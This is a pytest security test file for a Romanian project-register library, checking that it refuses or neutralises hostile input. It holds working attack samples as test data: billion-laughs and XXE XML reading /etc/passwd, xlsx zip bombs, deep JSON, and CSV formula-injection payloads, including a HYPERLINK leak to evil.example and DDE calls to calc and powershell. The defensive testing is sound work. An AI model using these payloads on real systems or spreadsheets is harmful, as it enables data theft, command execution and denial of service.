"""Hostile and malformed input: XML entities, oversized files, zip bombs, deep JSON, wrong
extensions, the encodings and spellings real Romanian registers arrive in, and formula injection
on CSV and XLSX export.
"""

from __future__ import annotations

import contextlib
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import inclusionkit
from inclusionkit import COLUMN_NAMES, InclusionKitError, ValidationError, load_project
from inclusionkit._limits import GIB, MIB, check_size, input_limits, limit, parse_size
from inclusionkit._limits import read_json_document as read_json
from inclusionkit._participations import DTYPES
from inclusionkit._plugins import importers
from inclusionkit._sanitise import (
    FORMULA_PREFIXES,
    needs_quote,
    neutralise_frame,
    neutralise_text,
    restore_frame,
    restore_text,
)
from tests.security._samples import example, romanian_csv, seeds

HAS_XLSX = "xlsx" in importers()
HAS_IATI = "iati" in importers()
needs_xlsx = pytest.mark.skipif(not HAS_XLSX, reason="inclusionkit-xlsx is not installed")
needs_iati = pytest.mark.skipif(not HAS_IATI, reason="inclusionkit-iati is not installed")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C powershell'!A0",
]


def _row(**values: str) -> dict[str, str]:
    """One participation row as text: a valid person, with ``values`` changed."""
    cells = dict.fromkeys(COLUMN_NAMES, "")
    cells.update(
        participant_id="P1",
        project_code="POCU/449/4/16/127700",
        gender="female",
        birth_date="1990-05-17",
        entry_date="2019-09-01",
        labour_status="unemployed",
        isced="2",
        region="RO42",
    )
    cells.update(values)
    return cells


def _csv(rows: list[dict[str, str]], sep: str = ",") -> str:
    lines = [sep.join(COLUMN_NAMES)] + [sep.join(r[c] for c in COLUMN_NAMES) for r in rows]
    return "\n".join(lines) + "\n"


def _sparse(path: Path, size: int) -> Path:
    """A file of ``size`` bytes that takes no disk space (and would take long to read)."""
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path


# -- XML: entities ----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<iati-activities version="2.03"><iati-activity><title><narrative>&lol9;</narrative></title>
</iati-activity></iati-activities>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<iati-activities version="2.03"><iati-activity>
<iati-identifier>&xxe;</iati-identifier></iati-activity></iati-activities>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE iati-activities SYSTEM "http://127.0.0.1:9/evil.dtd">
<iati-activities version="2.03"><iati-activity><iati-identifier>x</iati-identifier>
</iati-activity></iati-activities>
"""


@needs_iati
@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["entity-expansion", "external-entity"]
)
def test_iati_refuses_entities(tmp_path: Path, document: bytes) -> None:
    """An IATI file declaring entities (billion laughs, XXE) is refused, quickly."""
    path = tmp_path / "hostile.xml"
    path.write_bytes(document)
    started = time.perf_counter()
    with pytest.raises(InclusionKitError, match="entities"):
        inclusionkit.read(path, format="iati")
    assert time.perf_counter() - started < 5


@needs_iati
def test_iati_never_fetches_an_external_dtd(tmp_path: Path) -> None:
    """An external DTD is not loaded (nothing listens on that port; no hang, no fetch)."""
    path = tmp_path / "dtd.xml"
    path.write_bytes(EXTERNAL_DTD)
    started = time.perf_counter()
    with pytest.raises(InclusionKitError):
        inclusionkit.read(path, format="iati")
    assert time.perf_counter() - started < 5


@needs_iati
def test_iati_refuses_a_file_over_its_limit(tmp_path: Path) -> None:
    """An IATI file over 50 MB is refused by its size, not read."""
    path = _sparse(tmp_path / "huge.xml", 60 * MIB)
    with pytest.raises(InclusionKitError, match="limit"):
        inclusionkit.read(path, format="iati")


# -- size limits ------------------------------------------------------------------------------


def test_limits_have_documented_defaults(monkeypatch: pytest.MonkeyPatch) -> None:
    """2 GiB for tables, 50 MiB for documents, 4 GiB expanded, unless the environment says."""
    for name in ("INCLUSIONKIT_MAX_INPUT_BYTES", "INCLUSIONKIT_MAX_DOCUMENT_BYTES"):
        monkeypatch.delenv(name, raising=False)
    assert limit("table") == 2 * GIB
    assert limit("document") == 50 * MIB
    monkeypatch.setenv("INCLUSIONKIT_MAX_INPUT_BYTES", "500M")
    assert limit("table") == 500_000_000
    with input_limits(table="1KiB"):
        assert limit("table") == 1024
    assert limit("table") == 500_000_000


@pytest.mark.parametrize("text", ["", "abc", "-5", "0", "12 parsecs"])
def test_bad_limit_settings_are_clear_errors(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """A limit that is not a positive size is an InclusionKitError naming the variable."""
    monkeypatch.setenv("INCLUSIONKIT_MAX_INPUT_BYTES", text)
    if text == "":
        assert limit("table") == 2 * GIB
        return
    with pytest.raises(InclusionKitError, match="INCLUSIONKIT_MAX_INPUT_BYTES"):
        limit("table")
    with pytest.raises(InclusionKitError):
        parse_size(text)


@pytest.mark.parametrize("format", ["csv", "parquet", "xlsx"])
def test_table_over_the_default_limit_is_refused_unread(tmp_path: Path, format: str) -> None:
    """A 3 GiB table is refused by its size at once (reading it would take many seconds)."""
    if format not in importers():
        pytest.skip(f"no {format} importer installed")
    path = _sparse(tmp_path / f"huge.{format}", 3 * GIB)
    started = time.perf_counter()
    with pytest.raises(InclusionKitError, match=r"over the limit of 2\.0 GiB"):
        inclusionkit.read(path, format=format, kind="participations")
    assert time.perf_counter() - started < 2


def test_json_over_the_default_document_limit_is_refused_unread(tmp_path: Path) -> None:
    """A 60 MiB JSON file (projects, reports, tables) is refused by its size."""
    path = _sparse(tmp_path / "huge.json", 60 * MIB)
    with pytest.raises(InclusionKitError, match="INCLUSIONKIT_MAX_DOCUMENT_BYTES"):
        inclusionkit.read(path)
    with pytest.raises(InclusionKitError, match="over the limit"):
        load_project(path)


@pytest.mark.parametrize(("format", "kind"), [("csv", "participations"), ("json", "project")])
def test_small_configured_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, format: str, kind: str
) -> None:
    """With the limit set small, a file just over it is refused and one under it is read."""
    data = next(d for k, d in seeds()[format] if k == kind)
    path = tmp_path / f"file.{format}"
    path.write_bytes(data)
    env = "INCLUSIONKIT_MAX_INPUT_BYTES" if format == "csv" else "INCLUSIONKIT_MAX_DOCUMENT_BYTES"
    monkeypatch.setenv(env, str(len(data) - 1))
    with pytest.raises(InclusionKitError, match=env):
        inclusionkit.read(path, kind=kind)
    monkeypatch.setenv(env, str(len(data)))
    assert inclusionkit.read(path, kind=kind) is not None


class _Endless(io.RawIOBase):
    """A stream of zeros that never ends, counting what was read from it."""

    def __init__(self) -> None:
        self.taken = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        buffer[:] = b"0" * len(buffer)
        self.taken += len(buffer)
        return len(buffer)


@pytest.mark.parametrize("format", ["csv", "json", "parquet", "xlsx"])
def test_endless_stream_stops_at_the_limit(format: str) -> None:
    """A file object that never ends is refused once it passed the limit, not read forever."""
    if format not in importers():
        pytest.skip(f"no {format} importer installed")
    stream = _Endless()
    with (
        input_limits(table="1MiB", document="1MiB"),
        pytest.raises(InclusionKitError, match="limit"),
    ):
        inclusionkit.read(io.BufferedReader(stream), format=format, kind="participations")
    assert stream.taken < 4 * MIB


def test_check_size_reads_only_metadata(tmp_path: Path) -> None:
    """check_size refuses a file from its size alone and returns the size of one under it."""
    path = _sparse(tmp_path / "t.csv", 10)
    assert check_size(path, "table") == 10
    with input_limits(table=9), pytest.raises(InclusionKitError, match="10 bytes"):
        check_size(path, "table")


def test_parquet_expanding_past_the_limit_is_refused(tmp_path: Path) -> None:
    """A Parquet file whose row groups expand past the limit is refused from its footer."""
    data = next(d for k, d in seeds()["parquet"] if k == "participations")
    path = tmp_path / "t.parquet"
    path.write_bytes(data)
    with input_limits(expanded=1024), pytest.raises(InclusionKitError, match="expands to"):
        inclusionkit.read(path)
    assert len(inclusionkit.read(path)) > 0


# -- xlsx zip bombs ---------------------------------------------------------------------------


def _workbook_bytes() -> bytes:
    return next(data for kind, data in seeds()["xlsx"] if kind == "participations")


def _with_member(data: bytes, member: str, payload: bytes, *, level: int = 9) -> bytes:
    """The workbook ``data`` with one more (or a replaced) member."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info, source.read(info.filename))
        target.writestr(member, payload, compress_type=zipfile.ZIP_DEFLATED, compresslevel=level)
    return out.getvalue()


@needs_xlsx
def test_xlsx_zip_bomb_is_refused(tmp_path: Path) -> None:
    """A workbook part that expands past the limit is refused before it is parsed."""
    bomb = _with_member(_workbook_bytes(), "xl/media/padding.bin", b"\0" * (64 * MIB))
    assert len(bomb) < MIB  # 64 MiB of zeros deflate to about 64 KiB
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    with input_limits(expanded="16MiB"), pytest.raises(InclusionKitError, match="zip bomb"):
        inclusionkit.read(path)


@needs_xlsx
def test_xlsx_claiming_terabytes_is_refused_before_inflating(tmp_path: Path) -> None:
    """A part whose directory entry claims 4 GiB is refused with the default limit, at once."""
    data = bytearray(_with_member(_workbook_bytes(), "xl/media/claim.bin", b"x" * 100))
    entry = data.rfind(b"xl/media/claim.bin") - 46  # the central directory entry
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (0xFFFFFFF0).to_bytes(4, "little")  # uncompressed size
    path = tmp_path / "claim.xlsx"
    path.write_bytes(bytes(data))
    started = time.perf_counter()
    with pytest.raises(InclusionKitError, match="zip bomb"):
        inclusionkit.read(path)
    assert time.perf_counter() - started < 2


@needs_xlsx
def test_xlsx_part_inflating_past_its_claim_is_refused(tmp_path: Path) -> None:
    """A part that claims 100 bytes but inflates to megabytes is caught while inflating."""
    data = bytearray(_with_member(_workbook_bytes(), "xl/media/liar.bin", b"\0" * (8 * MIB)))
    entry = data.rfind(b"xl/media/liar.bin") - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    path = tmp_path / "liar.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(InclusionKitError, match="inflates past"):
        inclusionkit.read(path)


@needs_xlsx
def test_xlsx_with_too_many_parts_is_refused(tmp_path: Path) -> None:
    """Ten thousand and one zip members are refused before any is read."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for i in range(10_001):
            archive.writestr(f"x/{i}", b"")
    path = tmp_path / "many.xlsx"
    path.write_bytes(out.getvalue())
    with pytest.raises(InclusionKitError, match="parts"):
        inclusionkit.read(path)


@needs_xlsx
def test_xlsx_xml_entities_are_not_expanded(tmp_path: Path) -> None:
    """Entities declared inside a workbook's XML are not expanded (no billion laughs)."""
    data = _workbook_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    if sheet.startswith(b"<?xml"):
        sheet = sheet.split(b"?>", 1)[1]
    prolog = BILLION_LAUGHS.split(b"<iati-activities")[0].replace(b"lolz", b"worksheet")
    sheet = sheet.replace(b"DLM-0001", b"&lol9;", 1)
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(_with_member(data, "xl/worksheets/sheet1.xml", prolog + sheet))
    started = time.perf_counter()
    try:
        table = inclusionkit.read(path)
    except InclusionKitError:
        pass
    else:
        assert not table["participant_id"].astype(str).str.contains("lollol").any()
    assert time.perf_counter() - started < 5


# -- JSON -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ("[" + "9" * 10_000 + "]", "not valid JSON"),
        ('[{"participant_id": "P1", "participant_id": "P2"}]', "appears twice"),
        ('[{"participant_id": "P1", "isced": NaN}]', "NaN"),
        ('{"a": Infinity}', "Infinity"),
        ("\ufeff" + '{"code": "x",', "not valid JSON"),
    ],
    ids=["deep", "huge-number", "duplicate-key", "nan", "infinity", "truncated"],
)
def test_hostile_json_is_refused(tmp_path: Path, text: str, message: str) -> None:
    """Deep nesting, huge numbers, duplicate keys and NaN: a clear error, for every JSON reader."""
    path = tmp_path / "hostile.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InclusionKitError, match=message):
        inclusionkit.read(path, kind="participations")
    with pytest.raises(InclusionKitError, match=message):
        read_json(path)


def test_deep_project_below_the_recursion_limit_is_refused(tmp_path: Path) -> None:
    """A project nested 900 deep (parseable, but too deep to check) is refused, not a crash."""
    path = tmp_path / "deep.json"
    path.write_text('{"code": ' + "[" * 900 + "]" * 900 + "}", encoding="utf-8")
    with pytest.raises(InclusionKitError, match="nested too deeply"):
        load_project(path)
    with pytest.raises(InclusionKitError):
        inclusionkit.read(path, kind="project")


# -- files that are not what their extension says ---------------------------------------------


def _file_of(format: str, kind: str) -> bytes:
    return next(data for k, data in seeds()[format] if k == kind)


@pytest.mark.parametrize(
    ("content", "suffix", "says"),
    [
        (("parquet", "participations"), ".csv", "Parquet"),
        (("json", "participations"), ".csv", "JSON"),
        (("csv", "participations"), ".json", "CSV"),
        (("csv", "participations"), ".parquet", "text file"),
        (("json", "project"), ".parquet", "text file"),
        (("xlsx", "participations"), ".csv", "ZIP"),
        (("xlsx", "participations"), ".json", "ZIP"),
        (("csv", "participations"), ".xlsx", "CSV"),
        (("iati", "project"), ".csv", "XML"),
    ],
)
def test_wrong_extension_is_a_clear_error(
    tmp_path: Path, content: tuple[str, str], suffix: str, says: str
) -> None:
    """A file renamed to another format's extension is refused, saying what it really is."""
    if content[0] not in seeds() or suffix.lstrip(".") not in importers():
        pytest.skip("format not installed")
    path = tmp_path / f"renamed{suffix}"
    path.write_bytes(_file_of(*content))
    with pytest.raises(InclusionKitError, match=says):
        inclusionkit.read(path, kind="participations")


# -- real-world Romanian CSV ------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["cp1250", "iso-8859-2", "utf-8-sig", "utf-8"])
def test_romanian_encodings_and_cedillas(tmp_path: Path, encoding: str) -> None:
    """Windows-1250, ISO-8859-2 or UTF-8 (BOM or not), ';', DD.MM.YYYY, ş/ţ, trailing spaces."""
    path = tmp_path / "registru.csv"
    path.write_bytes(romanian_csv().encode(encoding))
    table = inclusionkit.read(path)
    assert list(table["participant_id"]) == ["P0", "P1"]  # "P0 " trimmed
    assert list(table["gender"]) == ["female", "male"]  # "male " trimmed
    assert list(table["partner"]) == ["Asociația Șanse Egale"] * 2  # comma-below letters
    assert table["birth_date"].dt.strftime("%Y-%m-%d").tolist() == ["1990-05-17", "1985-03-02"]
    assert table["rural"].tolist() == [True, True]  # "da"
    assert inclusionkit.validate_participations(table).ok


def test_utf16_is_a_clear_error(tmp_path: Path) -> None:
    """UTF-16 (what 'Unicode text' in Excel writes) gets advice, not garbage."""
    path = tmp_path / "utf16.csv"
    path.write_bytes(romanian_csv().encode("utf-16"))
    with pytest.raises(InclusionKitError, match="UTF-16"):
        inclusionkit.read(path)


def test_isced_with_a_decimal_comma_is_a_named_cell_problem(tmp_path: Path) -> None:
    """ISCED is a level code, a whole number: "2,0" is refused as a cell, never guessed."""
    path = tmp_path / "isced.csv"
    path.write_text(_csv([_row(isced="2,0"), _row(participant_id="P2")], sep=";"))
    with pytest.raises(ValidationError) as info:
        inclusionkit.read(path)
    (problem,) = info.value.problems
    assert (problem.location, problem.column) == ("line 2", "isced")
    assert "'2,0'" in problem.message


def test_decimal_commas_in_semicolon_progress_tables(tmp_path: Path) -> None:
    """A ';' progress table with "12,5" reads 12.5; text columns stay text."""
    path = tmp_path / "progres.csv"
    path.write_text(
        "objective;indicator;name;unit;kind;baseline;target;milestone;achieved;percent;status;"
        "source\nO1;HRS;Ore de consiliere, grup;hours;output;0;120,5;;60,25;50,0;behind;reported\n",
        encoding="utf-8",
    )
    table = inclusionkit.read(path, kind="progress")
    assert table.loc[0, "target"] == 120.5
    assert table.loc[0, "achieved"] == 60.25
    assert table.loc[0, "name"] == "Ore de consiliere, grup"


# -- formula injection ------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_neutralising_is_reversible_and_safe(text: str) -> None:
    """Any text survives neutralise + restore; what is written starts no formula."""
    safe = neutralise_text(text)
    assert restore_text(safe) == text
    # Only a plain number ("-5") may still start with one of the formula characters.
    assert safe[:1] == "" or safe[0] not in FORMULA_PREFIXES or not needs_quote(safe)


def test_numbers_dates_and_codes_are_not_mangled() -> None:
    """Negative numbers (as numbers or plain numeric text), dates and codes are left alone."""
    frame = pd.DataFrame(
        {
            "text": pd.array(["-5", "+3.5", "RO42", "2019-09-01", "=1+1"], dtype="string"),
            "number": [-5, -1, 0, 3, 4],
            "float": [-2.5, 0.0, 1.0, 2.0, 3.0],
            "date": pd.to_datetime(["2019-01-01"] * 5),
        }
    )
    out = neutralise_frame(frame)
    assert out["text"].tolist() == ["-5", "+3.5", "RO42", "2019-09-01", "'=1+1"]
    for column in ("number", "float", "date"):
        pd.testing.assert_series_equal(out[column], frame[column])
    pd.testing.assert_frame_equal(restore_frame(out), frame)


def _hostile_participations() -> pd.DataFrame:
    _, table = example()
    frame = table.head(len(FORMULAS)).copy()
    frame["partner"] = pd.array(FORMULAS, dtype=DTYPES["partner"])
    frame["participant_id"] = pd.array(
        [f"{formula[:1]}P{i}" for i, formula in enumerate(FORMULAS)], dtype="string"
    )
    return frame


def test_csv_export_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    """No written cell starts like a formula; reading the CSV back gives the original text."""
    frame = _hostile_participations()
    path = tmp_path / "out.csv"
    inclusionkit.write(frame, path)
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column in ("partner", "participant_id"):
        assert not any(cell[:1] in FORMULA_PREFIXES for cell in written[column])
        assert all(cell.startswith("'") for cell in written[column])
    back = inclusionkit.read(path)
    pd.testing.assert_frame_equal(back, frame.reset_index(drop=True)[list(COLUMN_NAMES)])


def test_csv_export_of_progress_and_report_tables(tmp_path: Path) -> None:
    """Progress and report tables: text cells and headers neutralised, numbers kept, round trip."""
    project, table = example()
    progress = inclusionkit.progress(project, table)
    progress.loc[0, "name"] = '=HYPERLINK("x")'
    path = tmp_path / "progress.csv"
    inclusionkit.write(progress, path)
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    back = inclusionkit.read(path, kind="progress")
    assert back.loc[0, "name"] == '=HYPERLINK("x")'
    assert back["target"].tolist() == progress["target"].tolist()


@needs_xlsx
@pytest.mark.parametrize("kind", ["participations", "progress"])
def test_xlsx_export_writes_text_never_formulas(tmp_path: Path, kind: str) -> None:
    """Every text cell is a text value (never a formula), marked quote-prefix when risky."""
    frame: Any = _hostile_participations()
    if kind == "progress":
        project, table = example()
        frame = inclusionkit.progress(project, table)
        frame["name"] = (FORMULAS * len(frame))[: len(frame)]
    path = tmp_path / "out.xlsx"
    inclusionkit.write(frame, path, kind=kind)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    for formula in FORMULAS[: len(frame)]:
        matches = [
            cell
            for cell in texts
            if cell.value == formula.replace("\r", "\n") or cell.value == formula
        ]
        assert matches, formula
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in matches)
    assert all(cell.data_type == "s" for cell in texts)


@needs_xlsx
def test_xlsx_export_of_error_codes_and_control_characters(tmp_path: Path) -> None:
    """ "#N/A" stays text, not an error value; a control character becomes U+FFFD, not a crash."""
    frame = _hostile_participations()
    frame["partner"] = pd.array(["#N/A", "a\x01b", "#DIV/0!", "ok"] * 2, dtype="string")
    path = tmp_path / "codes.xlsx"
    inclusionkit.write(frame, path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    # The table starts below the title block, which a blank row ends.
    h = 1 + next(i for i, row in enumerate(sheet.iter_rows(values_only=True), 1) if not any(row))
    column = [row[COLUMN_NAMES.index("partner")] for row in sheet.iter_rows(min_row=h + 1)]
    assert [c.value for c in column[:4]] == ["#N/A", "a\ufffdb", "#DIV/0!", "ok"]
    assert all(c.data_type == "s" for c in column)


# -- regressions the fuzz tests found ---------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\x80",  # one byte that is not UTF-8: was read as UTF-8 and crashed decoding the header
        b"\ra,b\nc,d\n",  # a carriage return first: the header sniffer's csv.Error escaped
        _csv([_row(birth_date="2015-01- 3")]).encode(),  # Arrow's date check crashed on " 3"
    ],
    ids=["lone-byte", "leading-cr", "spaced-day"],
)
def test_fuzz_found_csv_cases(tmp_path: Path, data: bytes) -> None:
    """Files the fuzz tests once crashed on: now a result or an InclusionKitError."""
    path = tmp_path / "case.csv"
    path.write_bytes(data)
    for kind in (None, "participations", "progress", "report"):
        with contextlib.suppress(InclusionKitError):
            inclusionkit.read(path, kind=kind)


def test_check_size_takes_a_number_of_bytes_too(tmp_path: Path) -> None:
    """check_size(path, 5) uses 5 bytes as the limit."""
    path = _sparse(tmp_path / "t.bin", 6)
    with pytest.raises(InclusionKitError, match="over the limit of 5 bytes"):
        check_size(path, 5)
    assert check_size(path, 6) == 6
